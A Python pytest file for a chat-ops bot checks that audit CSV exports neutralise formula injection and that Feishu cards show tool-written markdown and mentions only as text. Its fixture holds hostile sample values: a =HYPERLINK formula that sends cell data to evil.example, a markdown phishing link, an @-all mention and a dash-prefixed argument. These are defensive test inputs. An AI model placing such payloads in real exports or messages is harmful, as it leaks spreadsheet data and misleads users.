"""Audit exports and cards carry no active content: what tools and MCP servers write (errors,
arguments) cannot become a spreadsheet formula in the CSV, nor a link, emphasis or mention on
the Feishu card."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlmodel import Session

from bot.cli import main
from bot.clock import utcnow
from bot.server import create_app
from bot.storage.database import open_database
from bot.storage.models import CallLog
from tests.fakes.feishu_api import FakeFeishu
from tests.fakes.fixtures import fake_openai  # noqa: F401
from tests.feishu.e2e import LEAD, bot_settings

HOSTILE = {
    "error": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "requester": "@U0EVIL",
    "action": "-restart",
    "arguments": {"note": "[click me](https://evil.example) **now** <at id=all></at>"},
}


def seed_hostile_call(database_url: str) -> None:
    engine = open_database(database_url)
    try:
        with Session(engine) as session:
            session.add(CallLog(
                at=utcnow() - timedelta(minutes=5), run_id="R1", tool_call_id="c1",
                platform="feishu", channel="oc_group", requester=HOSTILE["requester"],
                connector="mcp", action=HOSTILE["action"], tool_name="mcp__restart",
                mutating=True, arguments=HOSTILE["arguments"], approval_status="approved",
                approvers=[LEAD], result_status="error", error=HOSTILE["error"],
            ))  # fmt: skip
            session.commit()
    finally:
        engine.dispose()


def test_csv_cells_that_would_be_formulas_are_neutralised(
    database_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    seed_hostile_call(database_url)
    monkeypatch.setenv("DATABASE_URL", database_url)
    assert main(["audit", "--since", "1d", "--format", "csv"]) == 0
    [header, row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = dict(zip(header, row, strict=True))
    assert cells["error"] == "'" + HOSTILE["error"]
    assert cells["requester"] == "'@U0EVIL" and cells["action"] == "'-restart"
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for c in row if c.startswith(formula_starts)]


async def test_the_feishu_audit_card_renders_no_link_or_mention_from_a_tool(
    database_url: str,
    aiohttp_client,
    tmp_path,
    fake_feishu: FakeFeishu,
    fake_openai,  # noqa: F811
) -> None:
    (tmp_path / "manifests").mkdir()
    settings = bot_settings(database_url=database_url, manifests=tmp_path / "manifests",
                            fake=fake_feishu, llm_url=fake_openai.base_url,
                            chatops_audit_viewers=LEAD,
                            chatops_audit_all_channels_viewers=LEAD)  # fmt: skip
    client = await aiohttp_client(create_app(settings))
    seed_hostile_call(database_url)
    event = fake_feishu.message_event("audit 1d mcp share", user=LEAD)
    root = event["event"]["message"]["message_id"]
    status, _ = await fake_feishu.push(str(client.make_url("/feishu/events")), event)
    assert status == 200
    [card] = await fake_feishu.wait_for(lambda f: f.cards_in(root), 10)
    texts = [e["content"] for e in card["body"]["elements"] if e.get("tag") == "markdown"]
    for text in texts:
        outside_code = text.split("```")[::2]  # the parts that are not inside a code block
        for part in outside_code:
            assert "](" not in part and "<at" not in part and "**now**" not in part, part
    assert "[click me](https://evil.example)" in "".join(texts)  # shown, as text
